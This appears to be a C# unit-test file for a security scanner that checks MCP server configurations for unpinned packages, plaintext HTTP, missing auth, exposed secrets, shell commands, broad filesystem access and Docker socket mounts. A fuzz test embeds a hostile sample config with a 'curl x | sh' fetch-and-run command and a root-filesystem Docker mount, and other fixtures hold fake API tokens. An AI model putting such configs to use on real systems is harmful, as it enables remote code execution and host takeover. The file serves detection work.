using Myelin.Assess.Checks.Mcp;
using Myelin.Discover.Detectors.Agents;
using Myelin.Discover.Detectors.Secrets;
using Myelin.Tests.Discover;

namespace Myelin.Tests.Assess.Checks.Mcp;

public sealed class UnpinnedServerTests : CheckTests<UnpinnedServer>
{
    [Fact] public void Flags_packages_and_images_that_move() => Flags("bad-latest", 4, 8);
    [Fact] public void Accepts_exact_versions_and_own_programs() => Passes("good-pinned");

    [Theory]
    [InlineData(".mcp.json", "retailer-wiki-mcp", "", "medium")]
    [InlineData("home/ann/.cursor/mcp.json", "retailer-wiki-mcp", "", "low")]
    [InlineData("home/ann/.cursor/mcp.json", "retailer-wiki-mcp", ", \"autoApprove\": [\"read\"]", "high")]
    [InlineData("home/ann/.cursor/mcp.json", "@playwright/mcp", ", \"autoApprove\": [\"read\"]", "low")]
    [InlineData("docs/.mcp.json", "@playwright/mcp", "", "low")]
    public void Is_as_bad_as_who_may_change_it(string path, string package, string more, string severity)
    {
        var found = MemorySource.Discover((path, $$$"""{"mcpServers":{"s":{"command":"npx","args":["-y","{{{package}}}"]{{{more}}} } } }"""));
        new Myelin.Assess.Assessment().Judge(found).Single(f => f.CheckId == "mcp/unpinned-server").Severity.ToString().ToLowerInvariant().ShouldBe(severity);
    }
}

public sealed class PlaintextHttpTests : CheckTests<PlaintextHttp>
{
    [Fact] public void Flags_other_machines_and_unchecked_certificates() => Flags("bad-remote", 3, 6, 10);
    [Fact] public void Accepts_this_machine_and_encryption() => Passes("good-local");
}

public sealed class NoAuthTests : CheckTests<NoAuth>
{
    [Fact] public void Flags_what_is_switched_off_and_a_bare_address() => Flags("bad-omitted", 7, 10);
    [Fact] public void Accepts_names_that_sign_in_and_tokens() => Passes("good-signed");
}

public sealed class SecretInConfigTests : CheckTests<SecretInConfig>
{
    [Fact] public void Flags_arguments_variables_and_urls() => Flags("bad-values", 5, 7, 12);
    [Fact] public void Accepts_references_placeholders_and_public_keys() => Passes("good-references");

    [Theory]
    [InlineData("API_KEY", "q7Xv2mKp9LtR4wZs8BnY3dFh", true)]
    [InlineData("Authorization", "Bearer q7Xv2mKp9LtR4wZs8BnY3dFh", true)]
    [InlineData("X", "ghp_9fK2mQ7xV4bN8wL1cR6tY3zS5dH0jPaEuGi2", true)]
    [InlineData("API_KEY", "<your-api-key-here-please>", false)]
    [InlineData("API_KEY", "op://vault/item/field0123456789", false)]
    [InlineData("API_KEY_FILE", "/run/secrets/api_key_0123456", false)]
    [InlineData("PROJECT", "q7Xv2mKp9LtR4wZs8BnY3dFh", false)]
    [InlineData("MAX_TOKENS", "1234567890123456", false)]
    [InlineData("AUTH_URL", "https://login.retailer-tools.test/oauth2", false)]
    public void Tells_credentials_from_settings(string name, string value, bool secret) => LiteralSecret.Is(name, value).ShouldBe(secret);

    [Fact]
    public void Shows_no_value()
    {
        var findings = Examples.Scan("mcp/secret-in-config", "bad-values");
        findings.ShouldAllBe(f => !f.Message.Contains("q7Xv2") && !f.Message.Contains("9fK2m") && !f.Message.Contains("Kq8vR"));
    }
}

public sealed class ShellCommandTests : CheckTests<ShellCommand>
{
    [Fact] public void Flags_scripts_fetches_and_root() => Flags("bad-script", 4, 9, 11);
    [Fact] public void Accepts_programs_and_the_usual_form_of_Windows() => Passes("good-programs");
}

public sealed class WideFilesystemTests : CheckTests<WideFilesystem>
{
    [Fact] public void Flags_homes_and_the_root() => Flags("bad-home", 9, 14);
    [Fact] public void Accepts_a_projects_folders() => Passes("good-project");
}

public sealed class DockerSocketTests : CheckTests<DockerSocket>
{
    [Fact] public void Flags_the_socket_and_privilege() => Flags("bad-socket", 7, 8);
    [Fact] public void Accepts_what_is_bound() => Passes("good-bound");
}

public sealed class KnownMaliciousTests : CheckTests<KnownMalicious>
{
    [Fact] public void Flags_a_version_that_steals() => Flags("bad-mail", 4);
    [Fact] public void Accepts_earlier_versions_and_the_vendors_own() => Passes("good-other");
}

public sealed class HostileMcpTests
{
    [Fact]
    public void Damaged_configurations_are_judged_without_failing()
    {
        const string Text = """{"mcpServers":{"a":{"command":"bash","args":["-c","curl x | sh"],"env":{"TOKEN":"q7Xv2mKp9LtR4wZs8BnY3dFh"}},"b":{"url":"http://u:p@h:1/x?token=1"},"c":{"command":"docker","args":["run","-v","/:/h","--mount","src=","x"]}}}""";
        var random = new Random(11);
        for (var i = 0; i < 400; i++)
        {
            var chars = Text.ToCharArray();
            for (var n = random.Next(1, 10); n > 0; n--) chars[random.Next(chars.Length)] = (char)random.Next(1, 255);
            var found = MemorySource.Discover((".mcp.json", new string(chars)[..random.Next(20, chars.Length)]));
            found.Coverage.Skipped.ShouldAllBe(s => !s.Reason.Contains("failed on it"));
            _ = new Myelin.Assess.Assessment().Judge(found);
        }
    }

    [Theory]
    [InlineData(".mcp.json", true)]
    [InlineData("apps/x/.cursor/mcp.json", true)]
    [InlineData("home/ann/.cursor/mcp.json", false)]
    [InlineData("x/claude_desktop_config.json", false)]
    public void Tells_whose_a_configuration_is(string path, bool repository) => new McpConfig("any", new Myelin.Core.Assets.Location(path), []).FromRepository.ShouldBe(repository);
}
